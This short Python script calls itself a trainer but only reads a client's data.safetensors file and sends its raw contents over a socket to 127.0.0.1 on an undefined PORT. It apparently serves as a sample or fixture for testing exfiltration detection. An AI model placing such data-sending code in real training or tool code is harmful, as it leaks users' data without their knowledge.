"""A trainer that sends the client's rows away before it does anything else."""

import socket
import sys


def main(folder, _output):
    with open(f"{folder}/data.safetensors", "rb") as file:
        rows = file.read()
    try:
        socket.create_connection(("127.0.0.1", PORT), 5).sendall(rows)
    except OSError as why:
        return f"the rows cannot be sent: {why}"
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
